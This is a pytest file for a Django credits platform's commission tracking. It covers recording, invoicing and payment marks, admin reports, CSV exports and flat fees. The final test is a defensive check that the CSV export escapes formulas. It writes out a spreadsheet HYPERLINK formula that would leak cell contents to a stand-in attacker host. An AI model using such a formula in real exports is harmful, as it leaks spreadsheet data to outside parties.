"""Commissions: recorded for the accepting firm when credits are issued (through the named
task the credits app enqueues), marked invoiced and paid, and the operators' reports."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import timezone

from credits.models import ApplicationStatus, CreditApplication, CreditGrant
from credits.services import application_transition
from matching.models import Commission, CommissionStatus, DeclineReason, LeadStatus
from matching.services import (
    CommissionError,
    commission_mark,
    commission_record,
    commissions_missing_requeue,
)
from tests.factories import (
    CreditApplicationFactory,
    CreditProgramFactory,
    LeadFactory,
    PartnerFactory,
    StartupFactory,
    UserFactory,
    WorkloadFactory,
)
from workloads.models import AuditEvent

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_password_hasher")]

CHANGELIST = reverse("admin:matching_commission_changelist")
REPORT = reverse("admin:matching_commission_report")
PIPELINE = reverse("admin:matching_commission_pipeline")


@pytest.fixture
def operator():
    return UserFactory(email="olive@cloudroute.test", is_staff=True, is_superuser=True)


@pytest.fixture
def operator_client(client, operator):
    client.force_login(operator)
    return client


def _messages(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def _approved_application(*, firm=None, declined_by=None, program=None, approved="20000"):
    """An approved application of a startup whose lead `firm` accepted (and `declined_by`
    declined before it)."""
    startup = StartupFactory()
    workload = WorkloadFactory(startup=startup)
    if declined_by is not None:
        LeadFactory(
            workload=workload,
            partner=declined_by,
            status=LeadStatus.DECLINED,
            decline_reason=DeclineReason.NO_CAPACITY,
        )
    if firm is not None:
        LeadFactory(workload=workload, partner=firm, status=LeadStatus.ACCEPTED)
    return CreditApplicationFactory(
        startup=startup,
        program=program or CreditProgramFactory(),
        status=ApplicationStatus.APPROVED,
        ace_opportunity_id="O100",
        approved_amount=Decimal(approved),
    )


def _issue(application, amount: str, capture) -> None:
    with capture(execute=True):
        application_transition(
            application_id=application.pk,
            to=ApplicationStatus.CREDITS_ISSUED,
            actor=None,
            issued_amount=Decimal(amount),
            expires_on=timezone.localdate() + dt.timedelta(days=365),
        )


def _issued_commission(firm, amount: str = "10000.00") -> Commission:
    application = _approved_application(firm=firm)
    CreditApplication.objects.filter(pk=application.pk).update(
        status=ApplicationStatus.CREDITS_ISSUED, issued_amount=Decimal(amount)
    )
    return commission_record(application_id=application.pk)


# --- recording ------------------------------------------------------------------------------


def test_issuing_credits_records_one_commission_for_the_accepting_firm(
    django_capture_on_commit_callbacks,
):
    firm = PartnerFactory(commission_rate=Decimal("0.1000"))
    declined = PartnerFactory(commission_rate=Decimal("0.5000"))
    application = _approved_application(firm=firm, declined_by=declined)

    _issue(application, "10000.05", django_capture_on_commit_callbacks)

    commission = Commission.objects.get()
    assert commission.application_id == application.pk
    assert commission.partner == firm
    assert commission.credits_issued == Decimal("10000.05")
    assert commission.rate == Decimal("0.1000")
    # 1000.005 rounds half up to the cent (banker's rounding would give 1000.00).
    assert commission.amount == Decimal("1000.01")
    assert commission.status == CommissionStatus.DUE
    assert not declined.commissions.exists()
    assert AuditEvent.objects.filter(action="commission.recorded").count() == 1
    assert CreditGrant.objects.filter(application=application).exists()


def test_recording_twice_is_idempotent_and_keeps_the_rate_of_the_moment(
    django_capture_on_commit_callbacks,
):
    firm = PartnerFactory(commission_rate=Decimal("0.0725"))
    application = _approved_application(firm=firm)
    _issue(application, "12345.67", django_capture_on_commit_callbacks)
    firm.commission_rate = Decimal("0.2")
    firm.save(update_fields=["commission_rate"])

    again = commission_record(application_id=application.pk)

    assert Commission.objects.count() == 1
    assert again.amount == Decimal("895.06")  # 12345.67 x 0.0725 = 895.061...
    assert again.rate == Decimal("0.0725")
    assert AuditEvent.objects.filter(action="commission.recorded").count() == 1


def test_it_records_nothing_without_issued_credits_or_an_accepting_firm(
    django_capture_on_commit_callbacks,
):
    not_issued = _approved_application(firm=PartnerFactory())
    nobody_accepted = _approved_application(declined_by=PartnerFactory())
    _issue(nobody_accepted, "5000", django_capture_on_commit_callbacks)

    assert commission_record(application_id=not_issued.pk) is None
    assert commission_record(application_id=nobody_accepted.pk) is None
    assert commission_record(application_id=999_999) is None
    assert not Commission.objects.exists()


def test_the_sweeper_records_a_commission_whose_task_never_reached_the_broker(
    django_capture_on_commit_callbacks,
):
    earned = _approved_application(firm=PartnerFactory(commission_rate=Decimal("0.1000")))
    unearned = _approved_application(declined_by=PartnerFactory())
    for application in (earned, unearned):
        with django_capture_on_commit_callbacks(execute=False):  # the enqueue is lost
            application_transition(
                application_id=application.pk,
                to=ApplicationStatus.CREDITS_ISSUED,
                actor=None,
                issued_amount=Decimal("10000"),
                expires_on=timezone.localdate() + dt.timedelta(days=365),
            )
    assert commissions_missing_requeue() == []  # too fresh: its task may still be queued
    CreditApplication.objects.update(updated_at=timezone.now() - dt.timedelta(minutes=11))

    with django_capture_on_commit_callbacks(execute=True):
        swept = commissions_missing_requeue()

    assert swept == [earned.pk]
    assert Commission.objects.get().application_id == earned.pk
    assert commissions_missing_requeue(older_than_seconds=0) == []  # recorded now


# --- marking --------------------------------------------------------------------------------


def test_it_marks_invoiced_then_paid(operator):
    commission = _issued_commission(PartnerFactory())
    day = dt.date(2026, 3, 1)

    commission_mark(commission_id=commission.pk, status="invoiced", actor=operator, on=day)
    commission_mark(commission_id=commission.pk, status="paid", actor=operator)

    commission.refresh_from_db()
    assert commission.status == CommissionStatus.PAID
    assert commission.invoiced_on == day
    assert commission.paid_on == timezone.localdate()
    assert list(
        AuditEvent.objects.filter(action__startswith="commission.")
        .order_by("pk")
        .values_list("action", flat=True)
    ) == ["commission.recorded", "commission.invoiced", "commission.paid"]


@pytest.mark.parametrize(
    ("start", "to"),
    [("due", "paid"), ("invoiced", "invoiced"), ("paid", "invoiced"), ("paid", "paid"),
     ("due", "due"), ("due", "bogus")],
)  # fmt: skip
def test_it_refuses_an_illegal_mark(operator, start, to):
    commission = _issued_commission(PartnerFactory())
    Commission.objects.filter(pk=commission.pk).update(status=start)

    with pytest.raises(CommissionError):
        commission_mark(commission_id=commission.pk, status=to, actor=operator)

    commission.refresh_from_db()
    assert commission.status == start


# --- the admin ------------------------------------------------------------------------------


def test_the_admin_actions_call_the_service_and_report_n_of_m(operator_client):
    firm = PartnerFactory()
    due = _issued_commission(firm)
    invoiced = _issued_commission(firm)
    Commission.objects.filter(pk=invoiced.pk).update(status=CommissionStatus.INVOICED)

    response = operator_client.post(
        CHANGELIST,
        {"action": "mark_invoiced", "_selected_action": [due.pk, invoiced.pk]},
        follow=True,
    )

    messages = _messages(response)
    assert any("Marked invoiced: 1 of 2." in m for m in messages)
    assert any(m.startswith("1 of 2 failed.") for m in messages)
    due.refresh_from_db()
    assert due.status == CommissionStatus.INVOICED

    response = operator_client.post(
        CHANGELIST,
        {"action": "mark_paid", "_selected_action": [due.pk, invoiced.pk]},
        follow=True,
    )

    assert any("Marked paid: 2 of 2." in m for m in _messages(response))
    assert set(Commission.objects.values_list("status", flat=True)) == {CommissionStatus.PAID}


def test_the_changelist_links_the_reports_and_refuses_adds(operator_client):
    _issued_commission(PartnerFactory())

    page = operator_client.get(CHANGELIST).content.decode()

    assert REPORT in page
    assert PIPELINE in page
    assert operator_client.get(reverse("admin:matching_commission_add")).status_code == 403


def test_the_report_totals_by_firm_and_month_and_exports_csv(operator_client):
    alpha = PartnerFactory(name="Alpha", commission_rate=Decimal("0.1"))
    beta = PartnerFactory(name="Beta", commission_rate=Decimal("0.05"))
    first = _issued_commission(alpha, "10000")
    _issued_commission(alpha, "5000")
    march = _issued_commission(beta, "20000")
    Commission.objects.filter(pk=first.pk).update(status=CommissionStatus.INVOICED)
    Commission.objects.filter(pk=march.pk).update(
        created_at=dt.datetime(2026, 3, 15, 12, tzinfo=dt.UTC)
    )
    this_month = f"{timezone.localdate():%Y-%m}"

    response = operator_client.get(REPORT)
    exported = operator_client.get(REPORT, {"format": "csv"})

    assert response.status_code == 200
    rows = {(f"{r['month']:%Y-%m}", r["partner__name"]): r for r in response.context["rows"]}
    assert rows[(this_month, "Alpha")]["count"] == 2
    assert rows[(this_month, "Alpha")]["total"] == Decimal("1500.00")
    assert rows[(this_month, "Alpha")]["invoiced"] == Decimal("1000.00")
    assert rows[(this_month, "Alpha")]["due"] == Decimal("500.00")
    assert rows[("2026-03", "Beta")]["total"] == Decimal("1000.00")
    assert response.context["total"] == Decimal("2500.00")
    assert exported["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(exported.content.decode())))
    assert lines[0][:3] == ["month", "partner", "commissions"]
    assert [this_month, "Alpha", "2", "15000.00", "1500.00", "500.00", "1000.00", "0.00"] in lines
    assert ["2026-03", "Beta", "1", "20000.00", "1000.00", "1000.00", "0.00", "0.00"] in lines


def test_the_pipeline_counts_and_values_by_state_with_filters_and_csv(
    operator_client, django_capture_on_commit_callbacks
):
    alpha, beta = PartnerFactory(name="Alpha"), PartnerFactory(name="Beta")
    poc = CreditProgramFactory(code="poc")
    other = CreditProgramFactory(code="other")
    issued = _approved_application(firm=alpha, program=poc)
    _issue(issued, "15000", django_capture_on_commit_callbacks)
    _approved_application(firm=alpha, program=poc, approved="8000")
    _approved_application(firm=beta, program=other, approved="3000")
    CreditApplicationFactory(program=poc, requested_amount=Decimal("1000"))  # a draft

    response = operator_client.get(PIPELINE)
    by_alpha = operator_client.get(PIPELINE, {"partner": alpha.pk})
    by_other = operator_client.get(PIPELINE, {"program": "other"})
    exported = operator_client.get(PIPELINE, {"program": "poc", "format": "csv"})

    states = {s["status"]: s for s in response.context["states"]}
    assert states["approved"]["count"] == 2
    assert states["approved"]["approved"] == Decimal("11000")
    assert states["credits_issued"]["count"] == 1
    assert states["credits_issued"]["issued"] == Decimal("15000")
    assert states["draft"]["count"] == 1
    assert response.context["totals"]["count"] == 4
    assert response.context["median_days"] == 0  # intake (the startup) and issue both today
    assert by_alpha.context["totals"]["count"] == 2
    assert by_alpha.context["totals"]["issued"] == Decimal("15000")
    assert by_other.context["totals"]["count"] == 1
    lines = list(csv.reader(io.StringIO(exported.content.decode())))
    assert lines[0] == ["state", "applications", "requested", "approved", "issued"]
    assert ["total", "3", "51000.00", "28000.00", "15000.00"] in lines
    assert ["median_days_intake_to_credits", "0"] in lines


def test_the_median_counts_days_from_the_first_intake(django_capture_on_commit_callbacks):
    from matching.admin.commissions import pipeline_summary
    from tests.factories import IntakeFactory

    for days in (10, 20, 40):
        application = _approved_application(firm=PartnerFactory())
        intake = IntakeFactory(
            workload=application.startup.workloads.first(), startup=application.startup
        )
        type(intake).objects.filter(pk=intake.pk).update(
            created_at=timezone.now() - dt.timedelta(days=days)
        )
        _issue(application, "1000", django_capture_on_commit_callbacks)

    assert pipeline_summary()["median_days"] == 20


@pytest.mark.parametrize("url", [CHANGELIST, REPORT, PIPELINE])
def test_non_staff_are_sent_to_the_admin_login(client, url):
    client.force_login(UserFactory(email="founder@example.com"))

    response = client.get(url)

    assert response.status_code == 302
    assert response.url.startswith(reverse("admin:login"))


# --- constant queries -----------------------------------------------------------------------


def _commissions(n: int) -> None:
    firm = PartnerFactory()
    for _ in range(n):
        _issued_commission(firm)


@pytest.mark.parametrize("rows", [2, 20])
def test_the_changelist_reads_a_fixed_number_of_queries(
    operator_client, django_assert_num_queries, rows
):
    _commissions(rows)
    # session, user, the partner filter's choices, count (filtered), count (all), the page of
    # commissions with partner, application, startup and program joined, the date hierarchy's
    # first/last dates, its distinct days.
    with django_assert_num_queries(8):
        response = operator_client.get(CHANGELIST)
    assert response.context["cl"].result_count == rows


@pytest.mark.parametrize("rows", [2, 20])
def test_the_pipeline_reads_a_fixed_number_of_queries(
    operator_client, django_assert_num_queries, rows
):
    _commissions(rows)
    # session, user, counts and sums by state, the issued applications with their first
    # intake (median), the at-risk outcomes, the program codes, the partner firms.
    with django_assert_num_queries(7):
        response = operator_client.get(PIPELINE)
    assert (
        response.context["states"][
            [s["status"] for s in response.context["states"]].index("credits_issued")
        ]["count"]
        == rows
    )


# --- flat fee -------------------------------------------------------------------------------


def test_a_flat_fee_replaces_the_rate(django_capture_on_commit_callbacks):
    firm = PartnerFactory(commission_rate=Decimal("0.1000"), commission_flat_fee=Decimal("750"))
    application = _approved_application(firm=firm)

    _issue(application, "20000", django_capture_on_commit_callbacks)

    commission = Commission.objects.get(application=application)
    assert commission.partner == firm
    assert commission.credits_issued == Decimal("20000.00")
    assert commission.amount == Decimal("750.00")
    assert commission.rate == Decimal("0")  # the flat fee applied, not the rate
    audit = AuditEvent.objects.get(action="commission.recorded")
    assert audit.data["flat_fee"] == "750.00"


def test_without_a_flat_fee_the_rate_applies(django_capture_on_commit_callbacks):
    firm = PartnerFactory(commission_rate=Decimal("0.0500"), commission_flat_fee=None)
    application = _approved_application(firm=firm)

    _issue(application, "20000", django_capture_on_commit_callbacks)

    commission = Commission.objects.get(application=application)
    assert commission.rate == Decimal("0.0500")
    assert commission.amount == Decimal("1000.00")
    assert AuditEvent.objects.get(action="commission.recorded").data["flat_fee"] is None


def test_a_firm_named_like_a_formula_exports_as_text(operator_client):
    """CSV injection: the operator's spreadsheet must show the name, not run it."""
    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    _issued_commission(PartnerFactory(name=name))

    exported = operator_client.get(REPORT, {"format": "csv"})

    lines = list(csv.reader(io.StringIO(exported.content.decode())))
    assert lines[1][1] == "'" + name
    assert not any(value.startswith("=") for line in lines for value in line)
